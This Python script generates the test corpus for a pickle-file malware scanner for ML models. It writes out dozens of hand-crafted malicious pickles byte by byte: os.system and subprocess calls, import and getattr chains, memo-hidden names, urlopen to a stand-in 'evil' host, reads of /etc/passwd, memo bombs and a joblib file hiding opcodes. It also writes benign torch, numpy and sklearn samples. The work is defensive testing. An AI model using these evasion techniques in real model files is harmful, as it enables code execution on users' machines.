#!/usr/bin/python3
"""Generate the pickle analyzer's test corpus.

Malicious samples are written opcode by opcode as bytes and are never
unpickled. Benign samples come from real pickling by torch, numpy and
scikit-learn. Run from this directory with Debian's /usr/bin/python3;
the outputs are committed so the Go tests never need Python.

    cd internal/modelscan/pickle/testdata && /usr/bin/python3 make_corpus.py
"""
import io
import os
import pickle
import struct
import zipfile

OUT_MAL = "malicious"
OUT_BEN = "benign"
os.makedirs(OUT_MAL, exist_ok=True)
os.makedirs(OUT_BEN, exist_ok=True)


def proto_hdr(p):
    return b"\x80" + bytes([p]) if p >= 2 else b""


def s(x, p):
    """A str pushed in protocol p."""
    b = x.encode()
    if p >= 4 and len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    if p >= 1:
        return b"X" + struct.pack("<I", len(b)) + b
    return b"V" + b + b"\n"


def g(mod, name, p):
    """Push the global mod.name in protocol p."""
    if p >= 4:
        return s(mod, p) + s(name, p) + b"\x93"
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def tup(items, p):
    if p >= 2 and 1 <= len(items) <= 3:
        return b"".join(items) + bytes([0x84 + len(items)])
    if len(items) == 0:
        return b")" if p >= 1 else b"(t"
    return b"(" + b"".join(items) + b"t"


def call(mod, name, args, p):
    return g(mod, name, p) + tup(args, p) + b"R"


def pk(body, p):
    return proto_hdr(p) + body + b"."


def write(d, name, data):
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


P = 4
mal = {}
# A plain os.system payload in every protocol; protocol 4 and 5 framed.
for p in range(6):
    body = call("os", "system", [s("id", p)], p)
    data = pk(body, p)
    if p >= 4:
        data = proto_hdr(p) + b"\x95" + struct.pack("<Q", len(body) + 1) + body + b"."
    mal[f"os_system_p{p}.pkl"] = data

# Module aliases.
mal["alias_posix.pkl"] = pk(call("posix", "system", [s("id", 2)], 2), 2)
mal["alias_nt.pkl"] = pk(call("nt", "system", [s("id", 2)], 2), 2)
mal["alias_builtin_eval.pkl"] = pk(call("__builtin__", "eval", [s("1+1", 2)], 2), 2)
mal["alias_operator_attrgetter.pkl"] = pk(call("_operator", "attrgetter", [s("x", 2)], 2), 2)
mal["alias_io_open.pkl"] = pk(call("_io", "open", [s("/etc/passwd", 2)], 2), 2)
mal["subprocess_popen.pkl"] = pk(g("subprocess", "Popen", 2) + b"(]" + s("id", 2) + b"at" + b"R", 2)
mal["subprocess_submodule.pkl"] = pk(call("os.path", "exists", [s("/", 2)], 2), 2)
# Dotted attribute paths (protocol 4 resolves them with getattr).
mal["dotted_torch_os.pkl"] = pk(call("torch", "os.system", [s("id", P)], P), P)
mal["dotted_dunder.pkl"] = pk(call("collections", "OrderedDict.__init__.__globals__", [s("x", P)], P), P)
mal["dotted_serialization_load.pkl"] = pk(call("torch", "serialization.load", [s("x", P)], P), P)
# Names hidden through the memo.
mal["memo_hidden.pkl"] = pk(
    s("os", P) + b"\x94" + s("system", P) + b"\x94" + b"00" + b"h\x00h\x01\x93" + s("id", P) + b"\x85R", P)
mal["memo_hidden_long.pkl"] = pk(
    s("subprocess", P) + b"r" + struct.pack("<I", 7) + b"0" + b"j" + struct.pack("<I", 7) + s("check_output", P)
    + b"\x93" + s("id", P) + b"\x85R", P)
# Callables built at run time.
imp = call("builtins", "__import__", [s("os", 2)], 2)
mal["getattr_import.pkl"] = pk(
    g("builtins", "getattr", 2) + imp + s("system", 2) + b"\x86R" + s("id", 2) + b"\x85R", 2)
mal["attrgetter.pkl"] = pk(call("operator", "attrgetter", [s("system", 2)], 2) + s("x", 2) + b"\x85R", 2)
mal["methodcaller.pkl"] = pk(call("operator", "methodcaller", [s("system", 2), s("id", 2)], 2) + s("x", 2) + b"\x85R", 2)
mal["pkgutil_resolve_name.pkl"] = pk(call("pkgutil", "resolve_name", [s("os:system", 2)], 2) + s("id", 2) + b"\x85R", 2)
mal["pydoc_locate.pkl"] = pk(call("pydoc", "locate", [s("os.system", 2)], 2) + s("id", 2) + b"\x85R", 2)
mal["importlib_import_module.pkl"] = pk(call("importlib", "import_module", [s("os", 2)], 2), 2)
mal["functools_partial.pkl"] = pk(
    g("functools", "partial", 2) + g("collections", "OrderedDict", 2) + b"\x85R" + b")R", 2)
# Alternative execution routes.
mal["pip_main.pkl"] = pk(g("pip", "main", 2) + b"(]" + s("install", 2) + b"at" + b"R", 2)
mal["runpy_run_path.pkl"] = pk(call("runpy", "run_path", [s("/tmp/x.py", 2)], 2), 2)
mal["bdb_run.pkl"] = pk(call("bdb", "Bdb.run", [s("import os", P)], P), P)
mal["timeit_timeit.pkl"] = pk(call("timeit", "timeit", [s("import os", 2)], 2), 2)
mal["cprofile_run.pkl"] = pk(call("cProfile", "run", [s("import os", 2)], 2), 2)
mal["code_interact.pkl"] = pk(call("code", "InteractiveInterpreter", [], 2), 2)
mal["ctypes_cdll.pkl"] = pk(call("ctypes", "CDLL", [s("libc.so.6", 2)], 2), 2)
mal["types_codetype.pkl"] = pk(call("types", "CodeType", [b"K\x00"], 2), 2)
mal["pickle_loads.pkl"] = pk(call("pickle", "loads", [b"C\x01."], 3), 3)
mal["cpickle_loads.pkl"] = pk(call("_pickle", "loads", [b"C\x01."], 3), 3)
mal["torch_load.pkl"] = pk(call("torch", "load", [s("/tmp/evil.pt", 2)], 2), 2)
mal["torch_load_from_bytes.pkl"] = pk(call("torch.storage", "_load_from_bytes", [b"C\x01."], 3), 3)
# Network and file access.
mal["socket_connect.pkl"] = pk(call("socket", "create_connection", [tup([s("evil", 2), b"M\x50\x00"], 2)], 2), 2)
mal["urllib_urlopen.pkl"] = pk(call("urllib.request", "urlopen", [s("http://evil/", 2)], 2), 2)
mal["builtins_open.pkl"] = pk(call("builtins", "open", [s("/etc/passwd", 2)], 2), 2)
# A call whose result is popped.
mal["result_popped.pkl"] = pk(call("os", "system", [s("id", 2)], 2) + b"0N", 2)
# A payload in a second stacked pickle.
mal["second_pickle.pkl"] = pk(b"}q\x00", 2) + pk(call("os", "system", [s("id", 2)], 2), 2)
# A payload before a deliberate parse error.
mal["payload_then_error.pkl"] = proto_hdr(2) + call("os", "system", [s("id", 2)], 2) + b"\xff\xff"
# FRAME lies: the frame claims far more bytes than the file has.
body = call("os", "system", [s("id", 4)], 4) + b"."
mal["frame_lie.pkl"] = proto_hdr(4) + b"\x95" + struct.pack("<Q", 1 << 40) + body
# A memo bomb: a huge sparse memo index, then amplification through DUP
# and LONG_BINGET of the same entry.
bomb = b"]" + b"r" + struct.pack("<I", 0xFFFFFFF0) + b"(" + (b"j" + struct.pack("<I", 0xFFFFFFF0) + b"2") * 2000 + b"e"
mal["memo_bomb.pkl"] = pk(bomb, 2)
# A huge BINUNICODE8 length: must be an error, never an allocation.
mal["huge_length.pkl"] = proto_hdr(4) + b"\x8d" + struct.pack("<Q", 1 << 62) + b"xx."
# INST and OBJ routes.
mal["inst_os_system.pkl"] = b"(Vid\nios\nsystem\n."
mal["obj_os_system.pkl"] = pk(b"(" + g("os", "system", 1) + s("id", 1) + b"o", 1)
mal["newobj_popen.pkl"] = pk(g("subprocess", "Popen", 2) + s("id", 2) + b"\x85\x81", 2)
mal["newobj_ex_popen.pkl"] = pk(g("subprocess", "Popen", 4) + s("id", 4) + b"\x85}\x92", 4)
# BUILD on an imported object sets attributes on it (global state).
mal["build_on_global.pkl"] = pk(g("collections", "OrderedDict", 2) + b"N}" + s("x", 2) + b"K\x01s" + b"\x86b", 2)
# Unknown extension registry code.
mal["ext_code.pkl"] = pk(b"\x82\x07" + b")R", 2)
# A pickle named like text; content decides.
mal["named.txt"] = pk(call("os", "system", [s("id", 2)], 2), 2)
mal["named.bin"] = pk(call("os", "system", [s("id", 4)], 4), 4)
# Something not allowlisted, not known dangerous.
mal["unknown_class.pkl"] = pk(g("mypkg.models", "Net", 2) + b")\x81}b", 2)
# Trailing garbage after a clean pickle.
mal["trailing_garbage.pkl"] = pk(b"}", 2) + b"this is not a pickle\n"
# protocol 0 STRING with escapes hiding a name for STACK_GLOBAL is not possible,
# but UNICODE raw-unicode-escape can hide one.
mal["unicode_escape_name.pkl"] = pk(b"V\\u006fs\n" + b"V\\u0073ystem\n" + b"\x93" + s("id", 4) + b"\x85R", 4)

for name, data in mal.items():
    write(OUT_MAL, name, data)

# Benign samples, from real libraries.
import collections
import numpy as np

ben = {}
plain = {"a": [1, 2, 3.5, None, True], "b": ("x", b"bytes", {1, 2}), "c": {"nested": [frozenset([1])]},
         "d": bytearray(b"ab"), "e": 10 ** 30, "f": -1, "g": 1.5, "h": "é"}
for p in range(6):
    ben[f"plain_p{p}.pkl"] = pickle.dumps(plain, protocol=p)
ben["ordereddict.pkl"] = pickle.dumps(collections.OrderedDict(a=1), protocol=2)
for p in (0, 2, 4, 5):
    ben[f"numpy_p{p}.pkl"] = pickle.dumps(
        {"f": np.arange(12, dtype=np.float32).reshape(3, 4), "i": np.int64(3), "s": np.array(["a", "bc"]),
         "o": np.array([1, "x", None], dtype=object)}, protocol=p)

import torch
torch.manual_seed(0)
sd = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.BatchNorm1d(3)).state_dict()
buf = io.BytesIO()
torch.save(sd, buf)
with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
    name = [n for n in z.namelist() if n.endswith("data.pkl")][0]
    ben["torch_state_dict_data.pkl"] = z.read(name)
buf = io.BytesIO()
torch.save(sd, buf, _use_new_zipfile_serialization=False)
ben["torch_legacy.pt"] = buf.getvalue()
buf = io.BytesIO()
torch.save({"w": torch.zeros(3, dtype=torch.float16), "n": torch.arange(5), "b": torch.ones(2, dtype=torch.bool),
            "p": torch.nn.Parameter(torch.ones(2))}, buf, _use_new_zipfile_serialization=False)
ben["torch_legacy_dtypes.pt"] = buf.getvalue()

from sklearn.linear_model import LogisticRegression
X = np.array([[0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.0, 0.0]])
y = np.array([0, 1, 1, 0])
clf = LogisticRegression().fit(X, y)
for p in (2, 4, 5):
    ben[f"sklearn_logreg_p{p}.pkl"] = pickle.dumps(clf, protocol=p)
from sklearn.ensemble import RandomForestClassifier
ben["sklearn_forest.pkl"] = pickle.dumps(RandomForestClassifier(n_estimators=2, random_state=0).fit(X, y), protocol=4)

import joblib
buf = io.BytesIO()
joblib.dump({"clf": clf, "o": np.array([1, "x", None], dtype=object), "big": np.arange(3000, dtype=np.float64),
             "s": np.float32(2), "u": np.array(["ab", "c"]), "e": np.zeros((0, 3))}, buf)
ben["sklearn_logreg.joblib"] = buf.getvalue()

for name, data in ben.items():
    write(OUT_BEN, name, data)

# A joblib-shaped file whose "array bytes" are opcodes: joblib.load skips
# them as data, pickle.load runs them. Both readings must be judged.
payload = b"cos\nsystem\n(S'id'\ntR0"
wrapper = (g("joblib.numpy_pickle", "NumpyArrayWrapper", 4) + b")\x81" + b"}(" + s("subclass", 4)
           + g("numpy", "ndarray", 4) + s("shape", 4) + b"K" + bytes([len(payload)]) + b"\x85" + s("order", 4)
           + s("C", 4) + s("dtype", 4) + g("numpy", "dtype", 4) + s("u1", 4) + b"\x89\x88\x87R" + s("allow_mmap", 4)
           + b"\x89ub")
write(OUT_MAL, "joblib_hidden_opcodes.pkl", proto_hdr(4) + wrapper + payload + b".")
print(len(mal), "malicious,", len(ben), "benign")
